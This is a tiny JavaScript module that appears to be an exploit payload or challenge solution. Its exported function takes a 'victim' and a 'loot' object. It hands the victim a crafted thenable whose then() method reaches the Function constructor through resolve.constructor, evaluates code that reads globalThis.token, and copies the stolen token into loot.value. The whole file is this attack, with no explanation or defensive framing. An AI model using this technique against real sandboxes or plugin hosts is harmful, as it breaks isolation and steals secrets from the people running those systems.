module.exports = (victim, loot) => {
  victim.take({ then(resolve, reject) { loot.value = resolve.constructor('return globalThis.token')(); resolve(); } });
  return undefined;
};
